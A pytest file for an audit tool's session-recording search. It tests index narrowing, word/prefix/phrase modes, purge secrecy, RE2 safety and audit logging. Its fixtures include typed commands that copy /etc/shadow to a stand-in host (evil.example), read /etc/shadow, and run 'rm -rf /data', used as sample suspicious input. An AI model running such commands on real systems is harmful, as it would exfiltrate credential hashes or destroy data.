"""`broker sessions search` over the text index (migration 17): the same hits as reading
every recording, found by reading few; word, prefix and phrase over typed lines; the
backlog after an upgrade; purge; refusals.

Real recordings in tmp_path and a real store (the World of test_sessions_index).
"""

from __future__ import annotations

import sqlite3
import time
from datetime import timedelta
from typing import Any

import pytest

from broker.core.errors import UnavailableError, UsageError
from broker.sessions import iolog, query, search, typed
from broker.sessions.search import Search, compile_regex
from broker.sessions.service import Filters, _labelled
from broker.store import migrations
from broker.store.schema_base import Migration
from tests.unit import test_daemon, test_sessions_index
from tests.unit.test_sessions_index import NOW, World, finished_log
from tests.unit.test_sessions_iolog import START, Event, write_recording

world = test_sessions_index.world  # the same fixture: a store and a session store in tmp_path
# A real daemon on a Unix socket (test_daemon's fixtures).
shared_dir, settings, daemon = test_daemon.shared_dir, test_daemon.settings, test_daemon.daemon

TYPED: dict[str, list[Event]] = {
    "000001": [("ttyout", 0.1, b"$ "), ("ttyin", 1, b"scp /etc/shadow evil.example:/tmp/\r")],
    "000002": [("ttyout", 0.1, b"$ "), ("ttyin", 1, b"man ssh\r"),
               ("ttyout", 0.1, b"SEE ALSO scp(1), sftp(1)\r\n")],
    # Typed and erased (^U): not a command line, but the bytes are in ttyin.
    "000003": [("ttyin", 1, b"rm -rf /data\x15ls -l /etc/shadows\r")],
    "000004": [("ttyin", 1, b"CAT /ETC/SHADOW\r"), ("ttyin", 1, b"lss\x7f -la\r")],
}  # fmt: skip


def recorded(w: World, **logs: dict[str, Any]) -> None:
    for n, (rid, events) in enumerate(TYPED.items()):
        log = logs.get(rid) or finished_log(START + timedelta(minutes=n), 30)
        write_recording(w.root, rid, events, log=log)
    w.index()


def ids(hits: list[dict[str, Any]]) -> list[str]:
    return [h["id"] for h in hits]


def full_scan(w: World, pattern: str, streams: tuple[str, ...], f: Filters) -> list[Any]:
    """Every recording read, as before the index (the same code, told not to narrow)."""
    conn = w.store.conn
    s = Search(conn, w.recordings._open_or_none, lambda row: _labelled(conn, row))
    return s.regex(compile_regex(pattern), streams, f, narrow=False).hits


@pytest.mark.parametrize(
    "pattern", [r"\bscp\b", "shadow", "rm -rf", "evil\\.example", "ls -l", "(?i)cat /etc", "s.p"]
)
def test_a_narrowed_regex_search_finds_what_reading_every_recording_finds(
    world: World, pattern: str
) -> None:
    recorded(world)
    found = world.recordings.search(pattern, iolog.INPUT, Filters())
    assert found.hits == full_scan(world, pattern, iolog.INPUT, Filters())
    assert found.hits, pattern  # each pattern is typed somewhere


def test_the_index_reads_only_the_recordings_holding_the_literal(world: World) -> None:
    recorded(world)
    found = world.recordings.search(r"evil\.example:/tmp", iolog.INPUT, Filters())
    assert (found.narrowed, found.literals, found.read) == (True, ["evil.example:/tmp"], 1)
    assert ids(found.hits) == ["000001"]
    match = found.hits[0]["match"]
    assert (match["stream"], match["offset"]) == ("ttyin", 16)
    # Erased with ^U, still in the bytes: found, as the full scan finds it.
    assert ids(world.recordings.search("rm -rf", iolog.INPUT, Filters()).hits) == ["000003"]
    # Nothing certain to look up: every recording is read, and the result says why.
    loose = world.recordings.search("sh|xx", iolog.INPUT, Filters())
    assert (loose.narrowed, loose.read) == (False, 4)
    assert "no literal of 3+ characters" in (loose.note or "")
    out = world.recordings.search("sftp", iolog.OUTPUT, Filters())
    assert ids(out.hits) == ["000002"] and not out.narrowed
    assert "typed input only" in (out.note or "")


def test_required_literals_are_conservative() -> None:
    assert query.required_literals(rb"\bscp\b") == ["scp"]
    assert query.required_literals(b"ab?cdef") == ["cdef"]  # b is optional
    assert query.required_literals(b"x{0,3}yyy[abc]zzzz") == ["yyy", "zzzz"]
    assert query.required_literals(b"(abc)+xyz") == ["abc", "xyz"]
    assert query.required_literals(b"foo|barbaz") == []  # either side may match
    assert query.required_literals(b"(?:scp|rsync) /etc") == [" /etc"]
    assert query.required_literals(rb"a\xffbcd") == ["bcd"]
    assert query.required_literals(b"(?x) s c p") == ["scp"]
    assert query.required_literals(b"ab(?=cdef)") == []


def test_user_text_is_one_quoted_fts5_string_never_syntax(world: World) -> None:
    assert query.match_all("input", ['a"b OR c*', "NEAR(x y)"]) == (
        '{input} : ("a""b OR c*" AND "NEAR(x y)")'
    )
    recorded(world)
    for text in ('sh"adow', "shadow OR man", "{typed}: man", "man*", "NEAR(man ssh)"):
        assert world.recordings.search(text, (), Filters(), "phrase").hits == []
    with pytest.raises(UsageError, match="one word"):
        world.recordings.search("cat /etc", (), Filters(), "word")
    with pytest.raises(UsageError, match="printable"):
        world.recordings.search("man\x1b[A", (), Filters(), "word")


def test_word_prefix_and_phrase_search_the_typed_lines(world: World) -> None:
    recorded(world)
    word = world.recordings.search("shadow", (), Filters(), "word")
    # Case-insensitive; "shadows" is another word; typed lines only (no output).
    assert ids(word.hits) == ["000004", "000001"] and word.narrowed
    assert word.hits[0]["match"] == {"stream": "typed", "offset": 9, "excerpt": "CAT /ETC/SHADOW"}
    assert ids(world.recordings.search("shad", (), Filters(), "prefix").hits) == [
        "000004", "000003", "000001",
    ]  # fmt: skip
    phrase = world.recordings.search("ls  -l", (), Filters(), "phrase")
    assert ids(phrase.hits) == ["000003"]  # 000004 typed "lss", erased an s: "ls -la"
    assert ids(world.recordings.search("ls -la", (), Filters(), "phrase").hits) == ["000004"]
    # The erased command was never a line.
    assert world.recordings.search("rm", (), Filters(), "word").hits == []
    short = world.recordings.search("ls", (), Filters(), "word")
    assert ids(short.hits) == ["000004", "000003"] and "shorter than 3" in (short.note or "")


def test_filters_narrow_by_user_node_grant_time_and_exit(world: World) -> None:
    recorded(
        world,
        **{
            "000002": finished_log(START - timedelta(minutes=1), 30, user="bob", node="gpu02"),
            "000003": finished_log(START + timedelta(hours=2), 30, exit_value=1),
        },
    )
    every = world.recordings.search("s", iolog.INPUT, Filters())
    assert ids(every.hits) == ["000003", "000004", "000001", "000002"]
    for f, want in (
        (Filters(user="bob"), ["000002"]),
        (Filters(node="gpu01"), ["000003", "000004", "000001"]),
        (Filters(exit_value=1), ["000003"]),
        (Filters(until=START.strftime("%Y-%m-%dT%H:%M:%SZ")), ["000001", "000002"]),
        (Filters(grant="g0123456789abcdef"), []),
        (Filters(limit=1), ["000003"]),
    ):
        assert ids(world.recordings.search("s", iolog.INPUT, f).hits) == want, f
        assert ids(world.recordings.search("s", (), f, "prefix").hits) == want, f


def test_recordings_from_before_the_index_are_searched_then_backfilled(world: World) -> None:
    recorded(world)
    with world.store.transaction() as conn:  # as a store migrated from before 15 holds them
        conn.execute("DELETE FROM session_text")
        conn.execute("UPDATE recordings SET text_state = 0")
    before = world.recordings.search("(?i)shadow", iolog.INPUT, Filters())
    assert ids(before.hits) == ["000004", "000003", "000001"] and before.read == 4
    assert ids(world.recordings.search("shadow", (), Filters(), "word").hits) == [
        "000004", "000001",
    ]  # fmt: skip
    report = world.index(NOW + timedelta(minutes=1))
    assert report.backfilled == 4 and report.finished == []
    after = world.recordings.search("(?i)shadow", iolog.INPUT, Filters())
    assert after.hits == before.hits and after.read == 3
    assert world.index(NOW + timedelta(minutes=2)).backfilled == 0


def test_a_running_session_is_found_before_it_is_in_the_index(world: World) -> None:
    write_recording(
        world.root, "000009", [("ttyin", 1, b"tar czf /tmp/models.tgz /models\r")],
        complete=False, mtime=(NOW - timedelta(seconds=1)).timestamp(),
    )  # fmt: skip
    world.index()
    assert world.row("000009")["state"] == "running"
    assert ids(world.recordings.search("models.tgz", iolog.INPUT, Filters()).hits) == ["000009"]
    assert ids(world.recordings.search("models", (), Filters(), "prefix").hits) == ["000009"]


def test_purge_removes_the_recordings_index_rows(world: World) -> None:
    long_ago = NOW - timedelta(days=400)
    recorded(world, **{"000001": finished_log(long_ago, 30)})
    assert world.recordings.purge(365, NOW, "unix:admin") == ["000001"]
    left = [r[0] for r in world.store.conn.execute("SELECT rid FROM session_text ORDER BY 1")]
    assert left == ["000002", "000003", "000004"]
    assert world.recordings.search("evil.example", iolog.INPUT, Filters()).hits == []


def test_after_purge_the_typed_text_is_gone_from_the_database_files(world: World) -> None:
    """What a user typed at a no-echo prompt was in broker.db; after its recording is
    purged it is in neither the database file nor its WAL (secure_delete, FTS5 optimize,
    a truncating checkpoint), while the kept recordings' text still is."""
    secret, kept = b"Hunter2-Zebra-Quokka-77", b"Kept-Walrus-Marmot-55"
    long_ago = START - timedelta(days=400)
    write_recording(world.root, "000001", [("ttyin", 1, secret + b"\r")],
                    log=finished_log(long_ago, 30))  # fmt: skip
    write_recording(world.root, "000002", [("ttyin", 1, kept + b"\r")],
                    log=finished_log(START, 30))  # fmt: skip
    world.index()

    def stored() -> bytes:
        path = world.store.path
        wal = path.with_name(path.name + "-wal")
        return path.read_bytes() + (wal.read_bytes() if wal.exists() else b"")

    assert secret in stored() and kept in stored()  # the index did hold it
    assert world.recordings.purge(365, NOW, "unix:admin") == ["000001"]
    after = stored()
    assert secret not in after and secret[:12] not in after
    assert kept in after  # only the purged recording's text went
    assert ids(world.recordings.search(kept.decode(), iolog.INPUT, Filters()).hits) == ["000002"]


def test_a_catastrophic_pattern_answers_fast(world: World) -> None:
    """`(\\w+\\s?)+$` backtracks for tens of seconds in `re` on a few dozen bytes; RE2
    answers at once, with the same hits and fields as before for a plain pattern."""
    write_recording(world.root, "000001", [("stdin", 1, b"ab " * 20_000 + b"!")],
                    log=finished_log(START, 30))  # fmt: skip
    write_recording(world.root, "000002", [("ttyin", 1, b"x" * 28 + b"!\r")],
                    log=finished_log(START + timedelta(minutes=1), 30))  # fmt: skip
    world.index()
    started = time.monotonic()
    found = world.recordings.search(r"(\w+\s?)+$", iolog.INPUT, Filters())
    assert time.monotonic() - started < 2.0
    assert found.hits == []
    hit = world.recordings.search("(?i)X{5}!", iolog.INPUT, Filters()).hits
    assert ids(hit) == ["000002"]
    assert hit[0]["match"] == {"stream": "ttyin", "offset": 23, "excerpt": "x" * 28 + "!\r"}


@pytest.mark.parametrize(
    ("pattern", "why"),
    [(r"(a+)\1", "backreferences"), ("foo(?=bar)", "lookaround"), ("(?<!x)shadow", "lookaround")],
)
def test_a_pattern_re2_cannot_run_is_refused_in_one_line(pattern: str, why: str) -> None:
    with pytest.raises(UsageError) as caught:
        compile_regex(pattern)
    assert "\n" not in caught.value.message and why in caught.value.message
    assert caught.value.exit_code == 2


def test_deep_or_long_patterns_are_usage_errors_or_simply_not_narrowed() -> None:
    deep = "(" * 498 + "abc" + ")" * 498  # 999 characters
    assert query.required_literals(deep.encode()) == []  # too deep for the stdlib parser
    assert compile_regex(deep).search(b"xxabc") == (2, 5)  # RE2 runs it
    with pytest.raises(UsageError, match="longer than 1000"):
        compile_regex("a" * 1001)


def test_every_search_path_reads_at_most_max_scan(world: World, monkeypatch: Any) -> None:
    recorded(world)
    monkeypatch.setattr(search, "MAX_SCAN", 2)
    narrowed = world.recordings.search("shadow", iolog.INPUT, Filters())
    assert narrowed.narrowed and not narrowed.complete and narrowed.read == 2
    assert "newest 2 only" in (narrowed.note or "")
    for text, mode in (("ls", "word"), ("shadow", "prefix")):
        typed = world.recordings.search(text, (), Filters(), mode)
        assert not typed.complete and "newest 2 recordings only" in (typed.note or ""), mode
    with world.store.transaction() as conn:  # pending: read from the files, counted too
        conn.execute("DELETE FROM session_text")
        conn.execute("UPDATE recordings SET text_state = 0")
    pending = world.recordings.search("shad", (), Filters(), "prefix")
    assert (pending.read, pending.complete) == (2, False)


def test_the_index_keeps_at_most_64_kib_of_raw_input(world: World) -> None:
    """A sudo fed a mebibyte on stdin adds at most MAX_RAW of it to broker.db; the
    recording is partial, so a match past that is still found (from its files)."""
    write_recording(world.root, "000001", [("stdin", 1, b"y" * (1 << 20) + b"tailmarker")],
                    log=finished_log(START, 30))  # fmt: skip
    world.index()
    raw, lines, state = world.store.conn.execute(
        "SELECT length(t.input), length(t.typed), r.text_state FROM session_text t"
        " JOIN recordings r ON r.id = t.rid WHERE t.rid = '000001'"
    ).fetchone()
    # stdin, "\n", ttyin: the two streams' first 64 KiB together
    assert raw <= typed.MAX_RAW + 1 and typed.MAX_RAW == 64 * 1024 and state == 2
    assert lines <= typed.MAX_TEXT == 256 * 1024
    assert ids(world.recordings.search("tailmarker", iolog.INPUT, Filters()).hits) == ["000001"]


def test_each_search_is_audited_by_counts_never_by_its_text(world: World) -> None:
    recorded(world)
    found = world.recordings.audited_search(
        "unix:admin", NOW, "evil\\.example", iolog.INPUT, Filters(user="alice")
    )
    assert ids(found.hits) == ["000001"]
    with pytest.raises(UsageError):
        world.recordings.audited_search("unix:admin", NOW, "(sh)\\1", (), Filters(), "regex")
    events = world.events("session.search")
    assert [(e[0], e[1], e[2]) for e in events] == [
        ("unix:admin", "sessions", "ok"), ("unix:admin", "sessions", "refused"),
    ]  # fmt: skip
    ok, refused = events[0][3], events[1][3]
    assert ok == {
        "mode": "regex", "streams": list(iolog.INPUT), "filters": {"user": "alice", "limit": 200},
        "hits": 1, "read": 1, "narrowed": True, "complete": True,
    }  # fmt: skip
    assert refused["error"] == "usage"
    text = str(events)
    assert "evil" not in text and "shadow" not in text and "(sh)" not in text


def test_a_sqlite_without_fts5_is_refused_with_one_line(tmp_path: Any) -> None:
    conn = sqlite3.connect(tmp_path / "s.db")
    fake = Migration(99, "x", ("CREATE VIRTUAL TABLE t USING fts5_missing(a)",))
    with pytest.raises(UnavailableError, match="needs SQLite's FTS5") as caught:
        migrations.apply(conn, fake, "2026-12-07T00:00:00Z")
    assert "python3" in (caught.value.fix or "")


def test_the_api_answers_with_hits_and_how_they_were_found(
    daemon: Any, settings: Any, shared_dir: Any
) -> None:
    root = settings.session_store
    root.mkdir(parents=True, exist_ok=True)
    for n, (rid, events) in enumerate(TYPED.items()):
        write_recording(root, rid, events, log=finished_log(START + timedelta(minutes=n), 30))
    status, report = test_daemon.post_json(daemon, "/v1/sessions/index", {})
    assert status == 200 and len(report["finished"]) == 4, report
    status, found = test_daemon.post_json(
        daemon, "/v1/sessions/search", {"pattern": "shadow", "mode": "word", "exit": 0}
    )
    assert status == 200, found
    assert [h["session"]["id"] for h in found["hits"]] == ["000004", "000001"]
    assert (found["mode"], found["narrowed"], found["complete"]) == ("word", True, True)
    status, found = test_daemon.post_json(
        daemon, "/v1/sessions/search", {"pattern": "evil\\.ex", "streams": "input"}
    )
    assert [h["match"]["stream"] for h in found["hits"]] == ["ttyin"]
    assert found["literals"] == ["evil.ex"] and found["read"] == 1
    for body in (
        {"pattern": "shadow", "mode": "word", "streams": "output"},
        {"pattern": "a b", "mode": "prefix"},
        {"pattern": "shadow", "mode": "fts"},
        {"pattern": "shadow", "exit": 256},
        {"pattern": "(ab)\\1"},  # a backreference: RE2 has none
    ):
        status, refused = test_daemon.post_json(daemon, "/v1/sessions/search", body)
        test_daemon.assert_error(status, refused, 400, "usage")
